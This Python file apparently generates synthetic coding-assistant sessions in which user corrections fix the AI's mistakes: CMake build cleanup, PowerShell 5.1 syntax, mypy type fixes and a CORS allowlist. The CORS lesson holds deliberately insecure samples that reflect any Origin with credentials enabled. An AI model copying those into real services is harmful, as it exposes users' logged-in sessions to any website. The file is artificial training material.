    s = Session("H7L14", LIDAR, branch="feat/no-vulkan", version="2.1.7", start="2026-01-08T17:48:00")
    s.prompt("add a WITH_VULKAN option (default ON) so we can build without the vulkan renderer on the CI boxes that don't have "
             "the SDK, and check it compiles with it off")
    s.read(f"{LIDAR}/CMakeLists.txt", CMAKELISTS, offset=1, limit=6, total=38)
    s.edit(f"{LIDAR}/CMakeLists.txt", "find_package(Vulkan REQUIRED)\n",
           "option(WITH_VULKAN \"Build the Vulkan renderer\" ON)\nif(WITH_VULKAN)\n  find_package(Vulkan REQUIRED)\n"
           "  add_compile_definitions(LIDARVIEW_VULKAN=1)\nendif()\n", CMAKELISTS)
    s.bash("cmake . -DWITH_VULKAN=OFF && make -j8 2>&1 | tail -2", "Configure without Vulkan and build",
           out="-- Configuring done (0.9s)\n-- Generating done (0.1s)\n-- Build files have been written to: "
               "/home/hyejin/src/lidarview-lite\n[ 98%] Linking CXX executable lidarview\n[100%] Built target lidarview")
    s.say("Added `WITH_VULKAN` (ON by default); with it OFF, `find_package(Vulkan)` is skipped and the GL renderer is the only "
          "one compiled. It configures and builds cleanly with `-DWITH_VULKAN=OFF`.", end=True)
    s.prompt(H7L14_CORR, correction=True)
    s.bash("git status --short --ignored", "See what the in-source configure left behind",
           out=" M CMakeLists.txt\n!! CMakeCache.txt\n!! CMakeFiles/\n!! Makefile\n!! cmake_install.cmake\n!! lidarview\n"
               "!! src/CMakeFiles/\n!! src/Makefile\n!! src/cmake_install.cmake\n!! build/")
    s.bash("rm -rf CMakeCache.txt CMakeFiles Makefile cmake_install.cmake lidarview src/CMakeFiles src/Makefile "
           "src/cmake_install.cmake && git status --short --ignored", "Remove the in-source build files",
           out=" M CMakeLists.txt\n!! build/")
    s.bash("cmake --preset dev -DWITH_VULKAN=OFF && cmake --build --preset dev 2>&1 | tail -1", "Configure and build with the preset",
           out="-- Build files have been written to: /home/hyejin/src/lidarview-lite/build/dev\n[100%] Built target lidarview")
    s.say("Cleaned out the cache and generated files from the source tree (only `build/` is left, as before). Built again "
          "with `cmake --preset dev -DWITH_VULKAN=OFF`; it compiles into `build/dev`.", end=True)
    return s


# -----------------------------------------------------------------------------
H7L15_CORR = ("tried it on the test till:\n\nAt C:\\setup\\Install-Till.ps1:18 char:27\n"
              "+ $name = $env:TILL_NAME ?? \"till-$env:COMPUTERNAME\"\n+                         ~~\n"
              "Unexpected token '??' in expression or statement.\n\n"
              "these run on the tills' built-in Windows PowerShell 5.1, there is no pwsh 7 on them and we can't install it. so "
              "no ??, no ?: ternary, no && / || between commands, no ForEach-Object -Parallel. running it with pwsh on your mac "
              "proves nothing; check it with Invoke-ScriptAnalyzer and our settings file, PSUseCompatibleSyntax in there targets 5.1")

INSTALL_PS1 = ("param(\n    [switch]$WhatIf\n)\n\n$name = \"till-$env:COMPUTERNAME\"\nRename-Computer -NewName $name -WhatIf:$WhatIf\n\n"
               "& pnputil /add-driver .\\drivers\\tm-t88.inf /install\n")
INSTALL_NEW = ("param(\n    [switch]$WhatIf,\n    [switch]$NoPrinter\n)\n\n$name = $env:TILL_NAME ?? \"till-$env:COMPUTERNAME\"\n"
               "Rename-Computer -NewName $name -WhatIf:$WhatIf\n\n"
               "if (-not $NoPrinter) { & pnputil /add-driver .\\drivers\\tm-t88.inf /install && Write-Host \"printer driver ok\" }\n")

@lesson("H7L15", "powershell-compat", "pasted-error-then-rule", ["PowerShell 5.1", "PSUseCompatibleSyntax", "no &&"], [
    fire_edit(f"{TILLS}/modules/CustomerDisplay.psm1", "$brightness = 80\n",
              "$brightness = $cfg.Brightness ? $cfg.Brightness : 80\n", note="conditional operator from PowerShell 7; no shared words"),
    fire_edit(f"{TILLS}/scripts/Update-TillApps.ps1", "foreach ($pkg in $packages) { Install-TillPackage $pkg }\n",
              "$packages | ForEach-Object -Parallel { Install-TillPackage $_ } -ThrottleLimit 4\n",
              note="parallel pipeline that 5.1 doesn't have"),
    silent_edit(f"{TILLS}/modules/CustomerDisplay.psm1", "$brightness = 80\n",
                "if ($null -ne $cfg.Brightness) { $brightness = $cfg.Brightness } else { $brightness = 80 }\n",
                note="compliant 5.1 syntax"),
    silent_bash("pwsh -NoProfile -Command \"Invoke-ScriptAnalyzer -Path scripts -Recurse -Settings ./PSScriptAnalyzerSettings.psd1\"",
                "Lint the scripts", note="compliant check"),
])
def H7L15():
    s = Session("H7L15", TILLS, branch="main", version="2.0.76", start="2025-12-04T10:10:00")
    s.prompt("Install-Till.ps1: skip the printer driver step when -NoPrinter is passed, and take the till name from "
             "$env:TILL_NAME, falling back to till-<computername>")
    path = f"{TILLS}/scripts/Install-Till.ps1"
    s.read(path, INSTALL_PS1, offset=1, limit=9, total=64)
    s.write(path, INSTALL_NEW, original=INSTALL_PS1)
    s.bash("pwsh -NoProfile -File scripts/Install-Till.ps1 -NoPrinter -WhatIf", "Dry run on this machine",
           out="What if: Performing the operation \"Rename-Computer\" on target \"Name = till-MBP-KWABENA\".")
    s.say("`-NoPrinter` skips the driver install, and the name comes from `$env:TILL_NAME` with `till-<computername>` as "
          "the fallback. The `-WhatIf` run behaves as expected.", end=True)
    s.prompt(H7L15_CORR, correction=True)
    s.edit(path, "$name = $env:TILL_NAME ?? \"till-$env:COMPUTERNAME\"\n",
           "$name = $env:TILL_NAME\nif ([string]::IsNullOrEmpty($name)) { $name = \"till-$env:COMPUTERNAME\" }\n", INSTALL_NEW)
    s.edit(path, "if (-not $NoPrinter) { & pnputil /add-driver .\\drivers\\tm-t88.inf /install && Write-Host \"printer driver ok\" }\n",
           "if (-not $NoPrinter) {\n    & pnputil /add-driver .\\drivers\\tm-t88.inf /install\n"
           "    if ($LASTEXITCODE -eq 0) { Write-Host \"printer driver ok\" } else { throw \"pnputil failed: $LASTEXITCODE\" }\n}\n",
           INSTALL_NEW.replace("$name = $env:TILL_NAME ?? \"till-$env:COMPUTERNAME\"\n",
                               "$name = $env:TILL_NAME\nif ([string]::IsNullOrEmpty($name)) { $name = \"till-$env:COMPUTERNAME\" }\n"))
    s.bash("pwsh -NoProfile -Command \"Invoke-ScriptAnalyzer -Path scripts/Install-Till.ps1 -Settings ./PSScriptAnalyzerSettings.psd1\"",
           "Check 5.1 compatibility with the repo's analyzer settings", out="")
    s.say("Replaced `??` with an `IsNullOrEmpty` check and the `&&` with an explicit `$LASTEXITCODE` test (which also stops "
          "on a failed driver install). The analyzer with the repo settings reports nothing.", end=True)
    s.turn_done()
    return s


# -----------------------------------------------------------------------------
H7L16_CORR = ("no, don't make mypy shut up with type: ignore. each of those errors is pointing at something, and at least the "
              "award.amount one is a real bug, amount is Optional since the pydantic bump and we'd crash on draft awards. fix "
              "the types: narrow with a None/isinstance check, correct the annotation, or cast() with a comment saying why if "
              "the stub really is wrong. and no blanket ignore_errors in mypy.ini either")

AWARDS_PY = ("def committed_total(awards: list[Award]) -> Decimal:\n    total = Decimal(0)\n    for award in awards:\n"
             "        total += award.amount\n    return total\n")

@lesson("H7L16", "type-check-suppressions", "rejected-with-feedback", ["type: ignore", "fix the types", "ignore_errors"], [
    fire_edit(f"{GRANT}/grantflow/exports/csv_export.py", "def rows_for(call):\n", "@no_type_check\ndef rows_for(call):\n",
              note="switches checking off for a function; no shared words"),
    fire_edit(f"{GRANT}/mypy.ini", "[mypy-grantflow.legacy.*]\nignore_missing_imports = True\n",
              "[mypy-grantflow.legacy.*]\nignore_missing_imports = True\n\n[mypy-grantflow.reports.*]\nignore_errors = True\n",
              note="blanket ignore for a package"),
    silent_edit(f"{GRANT}/grantflow/reports/budget.py", "        spent += line.amount\n",
                "        if line.amount is None:\n            continue\n        spent += line.amount\n",
                note="compliant: narrowing"),
    silent_bash("mypy grantflow", "Type-check", note="related, harmless"),
])
def H7L16():
    s = Session("H7L16", GRANT, branch="chore/pydantic-27", version="2.1.9", start="2026-02-27T09:12:00")
    s.prompt("mypy went red on main after the pydantic 2.7 bump. make CI green again")
    s.bash("mypy grantflow", "Type-check",
           out="grantflow/awards/totals.py:14: error: Unsupported operand types for + (\"Decimal\" and \"None\")  [operator]\n"
               "grantflow/awards/totals.py:14: note: Right operand is of type \"Decimal | None\"\n"
               "grantflow/calls/schema.py:41: error: Argument \"deadline\" to \"Call\" has incompatible type \"str\"; expected "
               "\"datetime\"  [arg-type]\ngrantflow/reviews/scoring.py:27: error: Item \"None\" of \"Panel | None\" has no "
               "attribute \"weights\"  [union-attr]\nFound 3 errors in 3 files (checked 142 source files)", code=1)
    path = f"{GRANT}/grantflow/awards/totals.py"
    s.read(path, AWARDS_PY, offset=10, limit=5, total=22)
    s.say("Three errors, all from pydantic 2.7's stricter field types. I'll silence them at the three lines so CI is green "
          "again.")
    s.reject("Edit", {"file_path": path, "old_string": "        total += award.amount\n",
                      "new_string": "        total += award.amount  # type: ignore[operator]\n", "replace_all": False},
             feedback=H7L16_CORR)
    s.edit(path, "        total += award.amount\n",
           "        if award.amount is None:  # draft awards have no amount yet\n            continue\n"
           "        total += award.amount\n", AWARDS_PY)
    s.edit(f"{GRANT}/grantflow/calls/schema.py", "        deadline=row[\"deadline\"],\n",
           "        deadline=datetime.fromisoformat(row[\"deadline\"]),\n",
           "    return Call(\n        title=row[\"title\"],\n        deadline=row[\"deadline\"],\n    )\n")
    s.edit(f"{GRANT}/grantflow/reviews/scoring.py", "    weights = review.panel.weights\n",
           "    if review.panel is None:\n        raise ValueError(f\"review {review.id} has no panel\")\n"
           "    weights = review.panel.weights\n", "def score(review: Review) -> float:\n    weights = review.panel.weights\n")
    s.bash("mypy grantflow && pytest -q tests/awards tests/calls tests/reviews", "Type-check and run the affected tests",
           out="Success: no issues found in 142 source files\n........................................         [100%]\n"
               "40 passed in 3.02s")
    s.say("Fixed the three instead: draft awards without an amount are skipped in the total (that one would have crashed), "
          "the call deadline is parsed into a `datetime`, and scoring raises a clear error for a review without a panel. mypy "
          "is clean with no ignores, and the tests pass.", end=True)
    s.turn_done()
    return s


# -----------------------------------------------------------------------------
H7L17_CORR = ("no wait, not origin: true. that reflects whatever Origin the browser sends, and with credentials on, any website "
              "could make logged-in requests as our users, because the API runs on cookie sessions. allowed origins only come "
              "from ALLOWED_ORIGINS in config/cors.ts: add https://admin.tandem.app to the production list there, and "
              "http://localhost:5173 only in the development one. the admin router just needs to sit behind the same cors "
              "middleware as everything else")

ADMIN_TS = ("import { Router } from \"express\";\n\nexport const adminRouter = Router();\n\nadminRouter.use(requireStaff);\n")
CORS_TS = ("export const ALLOWED_ORIGINS: Record<Env, string[]> = {\n  production: [\"https://app.tandem.app\"],\n"
           "  development: [\"http://localhost:3000\"],\n};\n")

@lesson("H7L17", "cors-policy", "interrupted-edit", ["ALLOWED_ORIGINS", "config/cors.ts", "cookie sessions"], [
    fire_edit(f"{TANDEM}/src/routes/embed.ts", "router.get(\"/embed/:slug\", async (req, res) => {\n",
              "router.get(\"/embed/:slug\", async (req, res) => {\n  res.setHeader(\"Access-Control-Allow-Origin\", "
              "req.headers.origin ?? \"*\");\n  res.setHeader(\"Access-Control-Allow-Credentials\", \"true\");\n",
              note="echoes the caller's origin by hand"),
    fire_prompt("the partner widget embedded on other people's pages keeps failing with that header error, just let every "
                "domain hit the public endpoints", note="asks for a wide-open policy; no shared words"),
    silent_edit(f"{TANDEM}/src/config/cors.ts", "  production: [\"https://app.tandem.app\", \"https://admin.tandem.app\"],\n",
                "  production: [\"https://app.tandem.app\", \"https://admin.tandem.app\", \"https://partners.tandem.app\"],\n",
                note="compliant: allowlist entry"),
    silent_bash("curl -sI -H \"Origin: https://admin.tandem.app\" https://api.tandem.app/health | grep -i access-control",
                "Check the response headers", note="read-only check"),
])
def H7L17():
    s = Session("H7L17", TANDEM, branch="feat/admin-dashboard", version="2.0.37", start="2025-10-28T16:05:00")
    s.prompt("the new admin dashboard (admin.tandem.app) can't call the API, chrome says blocked by CORS policy: No "
             "'Access-Control-Allow-Origin' header is present on the requested resource")
    s.grep("adminRouter", path=f"{TANDEM}/src", mode="content",
           lines=["src/app.ts:21:app.use(\"/admin\", adminRouter);", "src/app.ts:24:app.use(cors(corsOptions));",
                  "src/routes/admin.ts:3:export const adminRouter = Router();"])
    s.read(f"{TANDEM}/src/routes/admin.ts", ADMIN_TS)
    s.say("The admin router is mounted before the CORS middleware, so its responses carry no CORS headers. I'll give it its "
          "own CORS handling.")
    s.interrupt_tool("Edit", {"file_path": f"{TANDEM}/src/routes/admin.ts",
                              "old_string": "adminRouter.use(requireStaff);\n",
                              "new_string": "adminRouter.use(cors({ origin: true, credentials: true }));\nadminRouter.use(requireStaff);\n",
                              "replace_all": False})
    s.prompt(H7L17_CORR, correction=True, think_secs=(20, 70))
    s.read(f"{TANDEM}/src/config/cors.ts", CORS_TS, offset=4, limit=4, total=19)
    s.edit(f"{TANDEM}/src/config/cors.ts", "  production: [\"https://app.tandem.app\"],\n  development: [\"http://localhost:3000\"],\n",
           "  production: [\"https://app.tandem.app\", \"https://admin.tandem.app\"],\n"
           "  development: [\"http://localhost:3000\", \"http://localhost:5173\"],\n", CORS_TS)
    s.edit(f"{TANDEM}/src/app.ts", "app.use(\"/admin\", adminRouter);\n\n\napp.use(cors(corsOptions));\n",
           "app.use(cors(corsOptions));\napp.use(\"/admin\", adminRouter);\n",
           "app.use(helmet());\napp.use(\"/admin\", adminRouter);\n\n\napp.use(cors(corsOptions));\napp.use(\"/api\", apiRouter);\n")
    s.bash("npm test -- cors && curl -sI -H \"Origin: https://evil.example\" http://localhost:8080/admin/ping | grep -ci "
           "access-control-allow-origin", "Run the CORS tests and check an unknown origin gets no header",
           out="PASS test/cors.test.ts\n  ✓ allows configured origins (14 ms)\n  ✓ rejects unknown origins (3 ms)\n"
               "  ✓ admin routes share the policy (5 ms)\n\nTests: 3 passed, 3 total\n0", code=0)
    s.say("`https://admin.tandem.app` is in the production list of `ALLOWED_ORIGINS` and `localhost:5173` in the development "
          "one; the admin router is now mounted after the shared `cors(corsOptions)`. An unknown origin gets no "
          "`Access-Control-Allow-Origin` header.", end=True)
    s.turn_done()
    return s
